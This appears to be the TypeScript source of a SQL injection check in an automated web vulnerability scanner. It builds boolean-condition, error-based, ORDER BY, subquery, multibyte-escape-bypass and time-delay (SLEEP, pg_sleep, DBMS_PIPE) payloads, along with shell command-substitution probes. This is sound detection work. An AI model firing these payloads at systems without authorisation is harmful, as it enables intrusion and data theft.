/*
 * SQL injection by what a statement answers: a fault that one more quote mends; a condition that holds, against one that does not; a sound
 * expression against a broken one; a delay. Conditions are joined by AND alone: OR would widen an update or a removal.
 */
import { ask, askWith, confirmed, NO_ANSWER, notConfirmed } from '#prober/checks/asking.ts';
import type { Check, CheckResult, Evidence, InputTrial } from '#prober/checks/check.ts';
import { isAlike, isQuoteIgnored, tellsApart } from '#prober/checks/judging/alike.ts';
import { comparedWord, reordered } from '#prober/checks/judging/compared-words.ts';
import { followedDelay } from '#prober/checks/judging/delay.ts';
import { isPhp } from '#prober/checks/judging/told-language.ts';
import { addsFault, CHANGES, firstAnswered, ROUNDS, type Question } from '#prober/checks/judging/oracle.ts';
import { isPasswordName } from '#prober/sending/user-changes.ts';
import type { Exchange, ProbeRequest } from '#prober/sending/exchange.ts';
import { decoded } from '#prober/application/decoded.ts';
import { shownByJoinedRow } from './joined-rows.ts';
import { sqlFaultIn } from './sql-errors.ts';
import { shownByWholeStatement } from './whole-statements.ts';

export const sqlInjection: Check = {
  id: 'live-sql-injection',
  title: 'SQL injection',
  categories: ['sql injection'],
  cwe: 89,
  severity: 'critical',
  isPassive: false,
  fix: 'Bind the value as a parameter of a prepared statement. Take names of columns and directions of sorting from a fixed list.',
  of: 'input',
  places: ['path', 'query', 'header', 'cookie', 'form', 'json', 'multipart'],
  run,
};

/** Where the first user signs in, what nobody is taken for is refused whatever it says: of who is taken, a condition is asked. */
async function run(trial: InputTrial): Promise<CheckResult> {
  const asked = await asNobody(trial);
  if (asked.verdict !== 'not_confirmed') return asked;
  const taken = trial.signingIn === undefined ? undefined : await shownBySigningIn({ ...trial, ...trial.signingIn });
  return taken ?? (await shownByRow(trial)) ?? asked;
}

/** A statement that is sound refuses each as a wrong name or password: few of these lock nobody out, and of a password there is one. */
async function shownBySigningIn(trial: InputTrial): Promise<CheckResult | undefined> {
  const isName = trial.parameter.isPassword !== true && !isPasswordName(trial.parameter.name);
  const baseline = await askWith(trial, trial.usual);
  if (baseline === undefined) return undefined;
  const answer = await firstAnswered(isName ? [...conditions(trial, trial.usual, SIGN_IN), joinedQuestion(trial.usual)] : conditions(trial, trial.usual, SIGN_IN.slice(0, 1)), { baseline, steadiness: trial.steadiness }, (value) => askWith(trial, value));
  return answer === undefined || answer === 'changes' ? undefined : ofStatement(trial, trial.usual, answer);
}

async function shownByRow(trial: InputTrial): Promise<CheckResult | undefined> {
  const before = await trial.answers.usual();
  const shown = before === undefined ? undefined : await shownByJoinedRow(trial, before);
  return shown === undefined ? undefined : shown === 'changes' ? CHANGES : confirmed(shown);
}

async function asNobody(trial: InputTrial): Promise<CheckResult> {
  const [before, quotes] = [await trial.answers.usual(), await trial.answers.quotes()];
  if (before === undefined) return NO_ANSWER;
  const byStatement = await shownByWholeStatement(trial, before);
  if (byStatement !== undefined) return confirmed(byStatement);
  const byFault = quotes === undefined ? undefined : ((await shownByFault(trial, before, { attack: quotes, doubled: `''""` })) ?? (await shownByOneQuote(trial, before, quotes)));
  if (byFault !== undefined) return confirmed(byFault);
  let fresh: Promise<Exchange | undefined> | undefined;
  const askFresh = (): Promise<Exchange | undefined> => (fresh ??= askWith(trial, trial.usual));
  const isIgnored = trial.finding === undefined && quotes !== undefined && !addsFault(before, quotes) && (await isQuoteIgnored({ usual: before, quotes }, askFresh));
  // Filters of quotes leave numbers as they are: one condition is asked of these.
  if (isIgnored && !isNumeric(trial.usual)) return (await shownByFinding(trial, before)) ?? (await shownPastEscapes(trial, before)) ?? notConfirmed('Quotes, which changed nothing in the answer.');
  const questions = isIgnored ? conditions(trial, trial.usual, NUMBER.slice(0, 1)) : questionsOf(trial, trial.usual);
  const answer = await firstAnswered(questions, { baseline: before, anew: askFresh, steadiness: trial.steadiness }, (value) => askWith(trial, value));
  if (answer !== undefined) return answer === 'changes' ? CHANGES : await ofStatement(trial, trial.usual, answer);
  const pastEscapes = await shownPastEscapes(trial, before);
  if (pastEscapes !== undefined) return pastEscapes;
  const byDelay = trial.finding === undefined ? undefined : await shownByDelay(trial);
  return byDelay === undefined ? notConfirmed('Quotes, pairs of conditions, broken expressions and, where the code points here, delays.') : confirmed(byDelay);
}

/** A letter is part of most texts of its script, and the sign that stands for any in a pattern of all. */
const FINDING = ['a', '%'] as const;

/**
 * Where no page tells a value, the usual one is part of no text, and who hides faults behind an empty list answers it as a fault: of one that finds
 * something a condition is asked.
 */
async function shownByFinding(trial: InputTrial, before: Exchange): Promise<CheckResult | undefined> {
  if (trial.parameter.example !== undefined || !['query', 'form', 'json', 'multipart'].includes(trial.parameter.place)) return undefined;
  for (const usual of FINDING) {
    const baseline = await askWith(trial, usual);
    if (baseline === undefined || baseline.response.status >= 400 || isAlike(baseline, before)) continue;
    const answer = await firstAnswered([...conditions(trial, usual, TEXT), joinedQuestion(usual)], { baseline, steadiness: trial.steadiness }, (value) => askWith(trial, value));
    if (answer !== undefined) return answer === 'changes' ? CHANGES : ofStatement(trial, usual, answer);
  }
  return undefined;
}

/**
 * A shell and a script end texts by quotes and join conditions by `||` and `&&` as well: who understands what only they do was asked no statement, and
 * that flaw has a check of its own. In a statement each of these is a text, or a fault.
 */
async function ofStatement(trial: InputTrial, usual: string, shown: Evidence): Promise<CheckResult> {
  const { baseline } = shown;
  if (baseline === undefined || isOfSqlAlone(shown) || (await joinsByFunction(trial, usual, { baseline, shown }))) return confirmed(shown);
  for (const [sound, broken] of othersOf(shown)) {
    const attack = await askWith(trial, usual + sound);
    if (attack === undefined || !tellsApart(baseline, [attack], [shown.control])) continue;
    const control = await askWith(trial, usual + broken);
    if (control !== undefined && tellsApart(baseline, [attack], [control])) return notConfirmed('Quotes and conditions, which a shell or a script understands, and no statement.');
  }
  return confirmed(shown);
}

/**
 * What joined nothing joins what a function makes, which is nothing. Two quotes in a text are one in a statement, and end two texts in a script; one of the two parentheses stands
 * outside of a shell's quotes, whichever way they begin, and is a fault there.
 */
async function joinsByFunction(trial: InputTrial, usual: string, { baseline, shown }: { readonly baseline: Exchange; readonly shown: Evidence }): Promise<boolean> {
  if (!sentBy(shown.attack.request).includes(`${usual}'||'`)) return false;
  const joined = await askWith(trial, `${usual}'||substr('''(',3)||'`);
  return joined !== undefined && tellsApart(baseline, [shown.attack, joined], [shown.control]);
}

/** Of who understood the quote that was asked by, alone. */
function othersOf({ attack: { request } }: Evidence): readonly (readonly [string, string])[] {
  const sent = sentBy(request);
  const shells = ['"%s"', `'"%s"'`].filter((_form, index) => index === 0 || sent.includes("'"));
  const scripts = ["'", '"'].filter((quote) => sent.includes(quote));
  return [...shells.map((form) => [form.replace('%s', '$(:)'), form.replace('%s', '$(:')] as const), ...scripts.map((quote) => [`${quote}+[]+${quote}`, `${quote}+[+${quote}`] as const)];
}

/**
 * A shell and a script know no `AND` before a comparison by one sign, be it of numbers or of texts, and no `CASE` or `SELECT` in parentheses: each is a fault to the
 * one, and further words or a fault to the other.
 */
function isOfSqlAlone({ attack: { request } }: Evidence): boolean {
  const sent = sentBy(request).replaceAll('+', ' ');
  return /\b\d+\)? +AND +\(?(\d+)=\1\b|['"]\)? +AND +\(?(['"])(\w+)%?\2=\2\3\b|\((?:CASE WHEN|SELECT \*) /.test(sent);
}

function sentBy({ url, body }: ProbeRequest): string {
  return decoded(`${url} ${body?.text ?? ''}`);
}

/** The control has each quote twice, so that a statement takes it for text; where a number stands in the statement, it is the usual value. */
async function shownByFault(trial: InputTrial, baseline: Exchange, { attack, doubled: quotes }: { readonly attack: Exchange; readonly doubled: string }): Promise<Evidence | undefined> {
  const text = sqlFaultIn(attack.response.body);
  if (text === undefined || sqlFaultIn(baseline.response.body) !== undefined) return undefined;
  const doubled = await askWith(trial, trial.usual + quotes);
  const again = await ask(trial, attack.request);
  if (doubled === undefined || again === undefined || !again.response.body.includes(text)) return undefined;
  const control = sqlFaultIn(doubled.response.body) === undefined ? doubled : baseline;
  // A database that fails now and then complains of either.
  if (sqlFaultIn((await ask(trial, control.request))?.response.body ?? text) !== undefined) return undefined;
  return { attack, control, effect: { kind: 'body-contains', text }, isRepeated: true, lookFor: `The database's complaint “${text}” in the answer to the first request: a quote in the value broke the statement.` };
}

/** A filter may refuse the one quote, and let the other through to the statement. */
async function shownByOneQuote(trial: InputTrial, baseline: Exchange, quotes: Exchange): Promise<Evidence | undefined> {
  if (isAlike(baseline, quotes) || sqlFaultIn(quotes.response.body) !== undefined) return undefined;
  const attack = await askWith(trial, `${trial.usual}'`);
  return attack === undefined ? undefined : shownByFault(trial, baseline, { attack, doubled: "''" });
}

/** The last byte of this sign's three, with the sign that is written before a quote, is one letter of GBK, BIG5 and Shift-JIS: the quote then stands alone. */
const SWALLOWS = '\u4e2d';

/** Where quotes are escaped byte by byte and the database reads letters of two. PHP's own function for it does that; one request, and of PHP alone. */
async function shownPastEscapes(trial: InputTrial, baseline: Exchange): Promise<CheckResult | undefined> {
  if (!isPhp(baseline)) return undefined;
  const attack = await askWith(trial, `${trial.usual}${SWALLOWS}'"`);
  const text = attack === undefined ? undefined : sqlFaultIn(attack.response.body);
  if (attack === undefined || text === undefined || sqlFaultIn(baseline.response.body) !== undefined) return undefined;
  const control = await askWith(trial, `${trial.usual}${SWALLOWS}`);
  if (control === undefined || sqlFaultIn(control.response.body) !== undefined) return undefined;
  return confirmed({ attack, control, effect: { kind: 'body-contains', text }, lookFor: `The database's complaint “${text}” in the answer to the first request: a letter before the quote took up the sign that escapes it.` });
}

/** How a value may stand in a statement: what ends it, and what takes up the rest. */
interface Position {
  readonly opens: string;
  readonly closes: string;
  /** Compared texts stand in these; none for numbers. */
  readonly quote: '' | "'" | '"';
}

const NUMBER: readonly Position[] = [
  { opens: '', closes: '', quote: '' },
  { opens: ') ', closes: '', quote: '' },
];
const TEXT: readonly Position[] = [
  { opens: "'", closes: '', quote: "'" },
  { opens: "%'", closes: '%', quote: "'" },
  { opens: '"', closes: '', quote: '"' },
  { opens: "')", closes: '', quote: "'" },
  { opens: "%')", closes: '%', quote: "'" },
  { opens: '")', closes: '', quote: '"' },
];

/** A name and a password are compared, and are no part of patterns. */
const SIGN_IN = TEXT.filter(({ closes, opens }) => closes === '' && opens !== '")');

function conditions(trial: InputTrial, usual: string, positions: readonly Position[]): readonly Question<string>[] {
  return positions.map((position) => {
    const asked = (purpose: string) => ({ same: condition(trial, usual, { ...position, purpose }, true), other: condition(trial, usual, { ...position, purpose }, false) });
    return { ...asked(COMPARED), again: ROUNDS.map((round) => asked(`${COMPARED}-${round}`)) };
  });
}

const COMPARED = 'sql-condition';

function questionsOf(trial: InputTrial, usual: string): readonly Question<string>[] {
  const isNumber = isNumeric(usual);
  // Of a number in quotes some databases take what stands behind it for nothing: asked first, each of these would cost two requests.
  const positions = isNumber ? [...TEXT.slice(0, 1), ...NUMBER, ...TEXT.slice(1)] : TEXT;
  const byFault = positions.slice(0, isNumber ? 3 : 2).map((position) => ({ same: condition(trial, usual, position, true), other: condition(trial, usual, position, true).replace(' AND ', ' ANDX '), isFault: true }));
  const asked = conditions(trial, usual, positions);
  // A filter that knows the words of conditions answers all of them alike: what has none is asked before the rarer positions.
  const wordless = [joinedQuestion(usual), joinedFaultQuestion(usual)];
  const [first, further] = [asked.slice(0, isNumber ? 3 : 2), asked.slice(isNumber ? 3 : 2)];
  return [...first, ...wordless, ...further, ...byFault, ...sortingQuestions(trial), ...tableQuestions(trial), ...bareQuestions(trial)];
}

/**
 * Past filters of spaces, words and comments: `||` joins texts but in MySQL, where it is OR, and an empty text is none; `&&` is AND in MySQL alone.
 * Neither widens a statement. Joined is nothing: the other value has the same signs in another order, so that who leaves signs out, as decoders of
 * base64 do, or counts them takes both alike.
 */
function bareQuestions(trial: InputTrial): readonly Question<string>[] {
  const { usual } = trial;
  const ends = [...(isNumeric(usual) ? [['', ''], [')', '(']] as const : []), ...([["'", "'"], ["')", "('"], ['"', '"'], ['")', '("']] as const)];
  return ends.map(([opens, takesUp]) => {
    const holding = (...values: readonly number[]): string => usual + opens + values.map((value) => `&&${takesUp}${value}`).join(takesUp === '' ? '' : opens);
    return { same: holding(1), other: holding(0), again: [{ same: holding(1, 1), other: holding(0, 1) }, { same: holding(1, 1, 1), other: holding(1, 0, 1) }, { same: holding(1, 1, 1, 1), other: holding(1, 1, 0, 1) }] };
  });
}

/** The right side ends in what follows in the statement: `'` of a text, `%'` of a pattern. */
function condition(trial: InputTrial, usual: string, { opens, closes, quote, purpose = COMPARED }: Position & { readonly purpose?: string }, holds: boolean): string {
  const parenthesis = opens.includes(')') ? '(' : '';
  if (quote === '') {
    const number = trial.number(purpose, 1000, 9998);
    return `${usual}${opens} AND ${parenthesis}${number}=${holds ? number : reordered(String(number))}`;
  }
  const one = comparedWord(trial, purpose);
  return `${usual}${opens} AND ${parenthesis}${quote}${one}${closes}${quote}=${quote}${holds ? one : reordered(one)}`;
}

function isNumeric(text: string): boolean {
  return /^-?\d+(?:\.\d+)?$/.test(text);
}

/** Behind ORDER BY a column may be an expression that gives the same column; a direction may stand behind it, and more behind that and behind a column's number. */
function sortingQuestions(trial: InputTrial): readonly Question<string>[] {
  const [, usual = trial.usual, direction = ''] = /^([a-z_][\w.]*)(\s+(?:asc|desc))$/i.exec(trial.usual) ?? [];
  const isColumnNumber = /^[1-9]\d?$/.test(usual);
  if (!isColumnNumber && !/^[a-z_][\w.]*$/i.test(usual)) return [];
  const isDirection = /^(?:asc|desc)$/i.test(usual);
  const [before, value] = isDirection || isColumnNumber ? [`${usual},`, '1'] : ['', usual];
  const expression = (purpose: string, end: string): string => {
    const number = trial.number(purpose, 1000, 9998);
    return `${before}(CASE WHEN ${number}=${number} THEN ${value} ELSE ${value} ${end})${direction}`;
  };
  // Of one length, as some applications refuse what is long.
  const asked = (purpose: string) => ({ same: expression(purpose, 'END'), other: expression(purpose, 'EDN') });
  return [{ ...asked('sql-sorting'), again: ROUNDS.map((round) => asked(`sql-sorting-${round}`)) }];
}

/** In the place of a table, rows of the same one may stand: all of them, or none. */
function tableQuestions(trial: InputTrial): readonly Question<string>[] {
  const { usual } = trial;
  if (!/^[a-z_][\w.]*$/i.test(usual) || /^(?:asc|desc)$/i.test(usual)) return [];
  const rows = (purpose: string, holds: boolean): string => {
    const number = trial.number(purpose, 1000, 9998);
    return `(SELECT * FROM ${usual} WHERE ${number}=${holds ? number : reordered(String(number))})whitebox`;
  };
  const asked = (purpose: string) => ({ same: rows(purpose, true), other: rows(purpose, false) });
  return [{ ...asked('sql-table'), again: ROUNDS.map((round) => asked(`sql-table-${round}`)) }];
}

/** Nothing is joined, so many times. */
const JOINS: readonly number[] = [1, 2, 3, 4];

function joinedQuestion(usual: string): Question<string> {
  const asked = (times: number) => ({ same: `${usual}'||${"''||".repeat(times)}'`, other: `${usual}||${"''||".repeat(times)}''` });
  return { ...asked(0), again: JOINS.map(asked) };
}

/** Where nothing is found either way, and a filter knows the words of conditions: three bars in a row join nothing in any statement, and are text where the value is. */
function joinedFaultQuestion(usual: string): Question<string> {
  const asked = (times: number) => ({ same: `${usual}'||${"''||".repeat(times)}'`, other: `${usual}'||${"''||".repeat(times)}|'` });
  return { ...asked(0), isFault: true, again: JOINS.map(asked) };
}

type Dialect = 'mysql' | 'postgresql' | 'oracle';

const DIALECTS: readonly (readonly [RegExp, Dialect])[] = [
  [/mysql|maria/i, 'mysql'],
  [/^pg$|pg-|postgres|psycopg|asyncpg/i, 'postgresql'],
  [/oracle|ojdbc/i, 'oracle'],
];

/** Once a statement, not once a row; the value stays what it was. */
const DELAYS: Readonly<Record<Dialect, (usual: string, seconds: number) => readonly string[]>> = {
  mysql: (usual, seconds) => ["'", ''].map((quote) => `${usual}${quote} AND 0=(SELECT waited FROM (SELECT SLEEP(${seconds}) AS waited)whitebox)${quote === '' ? '' : " AND '1'='1"}`),
  postgresql: (usual, seconds) => [`${usual}'||(SELECT '' FROM pg_sleep(${seconds}))||'`, `${usual}+(SELECT 0 FROM pg_sleep(${seconds}))`],
  oracle: (usual, seconds) => [`${usual}'||SUBSTR(DBMS_PIPE.RECEIVE_MESSAGE('whitebox',${seconds}),2)||'`],
};

async function shownByDelay(trial: InputTrial): Promise<Evidence | undefined> {
  const known = DIALECTS.filter(([pattern]) => trial.finding?.libraries.some((library) => pattern.test(library))).map(([, dialect]) => dialect);
  for (const dialect of known.length > 0 ? known : (['mysql', 'postgresql'] as const)) {
    for (const index of DELAYS[dialect](trial.usual, 0).keys()) {
      const evidence = await followedDelay(async (seconds) => {
        const value = DELAYS[dialect](trial.usual, seconds)[index];
        return value === undefined ? undefined : askWith(trial, value);
      });
      if (evidence !== undefined) return evidence;
    }
  }
  return undefined;
}
